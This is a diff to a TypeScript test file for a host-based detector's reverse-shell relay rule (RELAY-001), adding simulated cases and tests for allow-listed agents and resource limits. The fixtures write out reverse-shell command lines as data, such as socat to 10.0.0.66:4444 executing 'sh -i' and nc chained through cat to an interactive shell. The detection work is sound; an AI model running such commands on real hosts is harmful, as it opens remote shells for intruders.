@@ -6,7 +6,7 @@
 import { describe, expect, it } from "vitest";
 import {
   Engine, ProcessTable, createRelay001Rule, createTrc101Rule, type ExistingTcpSocket, type Finding, type Holding,
-  type SensorEvent, } from "sockeye";
+  type Relay001Options, type SensorEvent, } from "sockeye";
 import { LOCAL_END as LOCAL, at, connectedOut, dup, exit, fifo, holds, pipe, proc, silentLogger, start, tty, unix } from "../engine/fixtures.js";
 import { fakeHost } from "../host/fake-host.js";
 
@@ -16,9 +16,9 @@ const SOCK = 9001;
 /** A step is an event, or a change to what processes hold (their /proc/<pid>/fd). */
 type Step = SensorEvent | { holds: Record<number, Holding[]> };
 
-function run(steps: Step[], withTrc101 = false, existing: ExistingTcpSocket[] = [], maxFdsPerLook?: number) {
+function run(steps: Step[], withTrc101 = false, existing: ExistingTcpSocket[] = [], maxFdsPerLook?: number, options: Relay001Options = {}) {
   const host = fakeHost({ existing, ...(maxFdsPerLook !== undefined ? { maxFdsPerLook } : {}) });
-  const rules = [createRelay001Rule(), ...(withTrc101 ? [createTrc101Rule()] : [])];
+  const rules = [createRelay001Rule(options), ...(withTrc101 ? [createTrc101Rule()] : [])];
   const engine = new Engine({ rules, processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
   const findings: Finding[] = [];
   for (const step of steps) {
@@ -111,6 +111,61 @@ const relays: Case[] = [
     ],
     relay: { program: "inetutils-telnet", fds: [0, 1], input: 1, output: 1 },
   },
+  {
+    name: "the relay connects a minute after its shell started (no window to wait out)",
+    steps: [
+      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
+      connectedOut(relay, SOCK, 60_000),
+    ],
+    relay: { program: "ncat", fds: [0, 1], input: 1, output: 1 },
+  },
+  {
+    name: "the shell starts an hour after its relay connected (socat TCP:H:P SYSTEM:'sleep 3600; exec sh -i')",
+    steps: [
+      ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "SYSTEM:sleep 3600; exec sh -i"], [tty(1), tty(1), tty(1)], 0),
+      connectedOut(relay, SOCK, 1),
+      { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "sock:22")], 201: [holds(0, "sock:21"), holds(1, "sock:21"), holds(2, "pts:1")] } },
+      ...start(shell, "/bin/sh", ["sh", "-i"], [unix(21, 22), unix(21, 22), tty(1)], 3_600_000),
+    ],
+    relay: { program: "socat", fds: [0, 1], input: 1, output: 1 },
+  },
+  {
+    name: "a chain of six cats each way between the shell and nc (no hop count to exceed)",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash", "-c", "chain"], [tty(1), tty(1), tty(1)], 0),
+      // input: nc -> pipe 60 -> cat -> pipe 61 -> ... -> pipe 66 -> sh; output: sh -> pipe 70 -> cat -> ... -> pipe 76 -> nc
+      ...Array.from({ length: 6 }, (_, i) => [
+        { holds: { [310 + i]: [holds(0, `pipe:${60 + i}`, "read"), holds(1, `pipe:${61 + i}`, "write")] } },
+        ...start(proc(310 + i, 100, "cat"), "/usr/bin/cat", ["cat"], [pipe(60 + i), pipe(61 + i), tty(1)], 1),
+        { holds: { [320 + i]: [holds(0, `pipe:${70 + i}`, "read"), holds(1, `pipe:${71 + i}`, "write")] } },
+        ...start(proc(320 + i, 100, "cat"), "/usr/bin/cat", ["cat"], [pipe(70 + i), pipe(71 + i), tty(1)], 1),
+      ]).flat(),
+      { holds: { 302: [holds(0, "pipe:66", "read"), holds(1, "pipe:70", "write"), holds(2, "pipe:70", "write")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(66), pipe(70), pipe(70)], 2),
+      { holds: { 303: [holds(0, "pipe:76", "read"), holds(1, "pipe:60", "write"), holds(3, `sock:${SOCK}`)] } },
+      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [pipe(76), pipe(60), tty(1)], 3),
+      connectedOut(proc(303, 100, "nc"), SOCK, 4),
+    ],
+    relay: { program: "nc.traditional", fds: [0, 1, 2], input: 7, output: 7 },
+  },
+  {
+    name: "the chain's last hop, forked by a subshell (not the shell's family), execs after the connect: found through the stdio index",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash", "-c", "chain"], [tty(1), tty(1), tty(1)], 0),
+      { holds: { 302: [holds(0, "pipe:81", "read"), holds(1, "pipe:82", "write")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(81), pipe(82), tty(1)], 1),
+      { holds: { 303: [holds(0, "fifo:254:1:90", "read"), holds(1, "pipe:80", "write"), holds(3, `sock:${SOCK}`)] } },
+      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [fifo(90), pipe(80), tty(1)], 2),
+      connectedOut(proc(303, 100, "nc"), SOCK, 3),
+      // input hop: pipe 80 -> cat (child of subshell 150) -> pipe 81; output hop: pipe 82 -> cat -> FIFO 90
+      { holds: { 311: [holds(0, "pipe:80", "read"), holds(1, "pipe:81", "write")], 312: [holds(0, "pipe:82", "read"), holds(1, "fifo:254:1:90", "write")] } },
+      ...start(proc(311, 150, "cat"), "/usr/bin/cat", ["cat"], [pipe(80), pipe(81), tty(1)], 4),
+      ...start(proc(312, 150, "cat"), "/usr/bin/cat", ["cat"], [pipe(82), fifo(90), tty(1)], 5),
+    ],
+    relay: { program: "nc.traditional", fds: [0, 1], input: 2, output: 2 },
+  },
 ];
 
 const notRelays: Case[] = [
@@ -150,15 +205,6 @@ const notRelays: Case[] = [
     ],
   },
   {
-    name: "an agent that connected a minute before it spawned the shell: the socket is not the shell's",
-    steps: [
-      ...start(relay, "/usr/bin/node", ["node", "agent.js"], [tty(1), tty(1), tty(1)], 0),
-      connectedOut(relay, SOCK, 1),
-      { holds: { 200: [holds(17, `sock:${SOCK}`), holds(18, "ptm:8")], 201: [holds(0, "pts:8"), holds(1, "pts:8"), holds(2, "pts:8")] } },
-      ...start(shell, "/usr/bin/bash", ["bash", "-i"], [tty(8), tty(8), tty(8)], 60_000),
-    ],
-  },
-  {
     name: "input and output on two connections to two hosts (a fetched script whose output is shipped elsewhere)",
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
@@ -168,15 +214,6 @@ const notRelays: Case[] = [
       connectedOut(proc(303, 100, "nc"), SOCK + 1, 2, { address: "10.0.0.77", port: 514 }),
       { holds: { 301: [holds(1, "pipe:31", "write"), holds(3, `sock:${SOCK}`)], 303: [holds(0, "pipe:32", "read"), holds(3, `sock:${SOCK + 1}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write")] } },
       ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
-    ],
-  },
-  {
-    name: "the relay connects after the window: the pipeline never came together in time",
-    steps: [
-      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
-      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
-      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
-      connectedOut(relay, SOCK, 8000),
     ],
   },
   {
@@ -282,8 +319,8 @@ describe("RELAY-001: sockets that existed as observation began (/proc/net/tcp)",
     expect(r.socket_inode).toBe(SOCK);
   });
 
-  it("outbound, the shell starting 11 s into observation: older than the window allows, no finding", () => {
-    expect(run(withRelay(steps(0, 11_000)), false, existing("outbound")).findings).toEqual([]);
+  it("outbound, the shell starting an hour into observation: one finding (no window)", () => {
+    expect(run(withRelay(steps(0, 3_600_000)), false, existing("outbound")).findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
   });
 
   it("accepted (a listener on its port): no finding", () => {
@@ -308,5 +345,84 @@ describe("RELAY-001: sockets that existed as observation began (/proc/net/tcp)",
     const cut = run(steps(relayHolds), false, [], 2);
     expect(cut.findings).toEqual([]);
     expect(cut.stats.ruleState["RELAY-001"]!.incomplete).toBeGreaterThan(0);
+  });
+});
+
+describe("RELAY-001: an agent holding a long-lived connection and running interactive shells", () => {
+  // A web-terminal agent: it connected a minute before it spawned bash -i behind a pty. Its
+  // structure is a relay's (nothing tells it from socat SYSTEM:'sleep 60; exec bash -i'), so it
+  // is reported unless named in the configuration, and then suppressed with the reason counted.
+  const agent = {
+    steps: [
+      ...start(relay, "/usr/bin/node", ["node", "agent.js"], [tty(1), tty(1), tty(1)], 0),
+      connectedOut(relay, SOCK, 1),
+      { holds: { 200: [holds(17, `sock:${SOCK}`), holds(18, "ptm:8")], 201: [holds(0, "pts:8"), holds(1, "pts:8"), holds(2, "pts:8")] } },
+      ...start(shell, "/usr/bin/bash", ["bash", "-i"], [tty(8), tty(8), tty(8)], 60_000),
+    ],
+  };
+  const entry = { executable: "/usr/bin/node", reason: "web terminal agent" };
+
+  it("reported by default: the old connection is no excuse", () => {
+    expect(run(agent.steps).findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+  });
+
+  it("named in rules.relay_agents: no finding, the suppression counted under the entry's reason", () => {
+    const { findings, stats } = run(agent.steps, false, [], undefined, { agents: [entry] });
+    expect(findings).toEqual([]);
+    expect(stats.suppressedByRule["RELAY-001"]).toEqual({ "agent:web terminal agent": 1 });
+  });
+
+  it("an entry for another executable, or another unit, does not cover it", () => {
+    expect(run(agent.steps, false, [], undefined, { agents: [{ ...entry, executable: "/usr/bin/nodejs" }] }).findings).toHaveLength(1);
+    expect(run(agent.steps, false, [], undefined, { agents: [{ ...entry, unit: "agent.service" }] }).findings).toHaveLength(1);
+  });
+});
+
+describe("RELAY-001: bounds cost coverage visibly, never silently", () => {
+  it("300 decoy candidate shells between the shell's exec and its relay's connect: the relay is still found", () => {
+    const steps: Step[] = [
+      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
+    ];
+    for (let i = 0; i < 300; i++) {
+      const pid = 1000 + i;
+      steps.push({ holds: { [pid]: [holds(0, `pipe:${5000 + 2 * i}`, "read"), holds(1, `pipe:${5001 + 2 * i}`, "write")] } });
+      steps.push(...start(proc(pid, 100, "sh"), "/bin/sh", ["sh"], [pipe(5000 + 2 * i), pipe(5001 + 2 * i), tty(1)], 3));
+    }
+    steps.push(connectedOut(relay, SOCK, 10_000));
+    const { findings, stats } = run(steps);
+    expect(findings.map((f) => [f.rule.id, f.process.pid])).toEqual([["RELAY-001", 201]]);
+    expect(stats.ruleState["RELAY-001"]).toMatchObject({ abandoned: 0 });
+  });
+
+  it("a candidate shell fed commands through a pipe (cat cmds | sh) is not looked at again for every command it runs", () => {
+    const host = fakeHost();
+    let looks = 0;
+    const openFiles = host.openFiles.bind(host);
+    host.openFiles = (pid, startNs) => { looks++; return openFiles(pid, startNs); };
+    host.world.set(201, [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")]);
+    const engine = new Engine({ rules: [createRelay001Rule()], processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
+    for (const e of start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 1)) engine.handle(e);
+    const afterShell = looks;
+    for (let i = 0; i < 50; i++) for (const e of start(proc(3000 + i, 201, "ls"), "/usr/bin/ls", ["ls"], [pipe(11), pipe(12), tty(1)], 2)) engine.handle(e);
+    expect(looks - afterShell).toBeLessThan(10);
+  });
+
+  it("past maxPending the oldest live candidate is abandoned and counted (SENSOR-001 reports it)", () => {
+    const steps: Step[] = [
+      { holds: { 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")], 202: [holds(0, "pipe:13", "read"), holds(1, "pipe:14", "write")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
+      ...start(proc(202, 200, "sh"), "/bin/sh", ["/bin/sh"], [pipe(13), pipe(14), tty(1)], 3),
+    ];
+    expect(run(steps, false, [], undefined, { maxPending: 1 }).stats.ruleState["RELAY-001"]).toMatchObject({ pending: 1, abandoned: 1 });
+  });
+
+  it("a chain longer than the budget of processes examined: no finding, and the look is counted as incomplete", () => {
+    const c = relays.find((r) => r.name.startsWith("a chain of six cats"))!;
+    const cut = run(c.steps, false, [], undefined, { maxExamined: 6 });
+    expect(cut.findings).toEqual([]);
+    expect(cut.stats.ruleState["RELAY-001"]!.incomplete).toBeGreaterThan(0);
+    expect(run(c.steps).findings).toHaveLength(1);
   });
 });
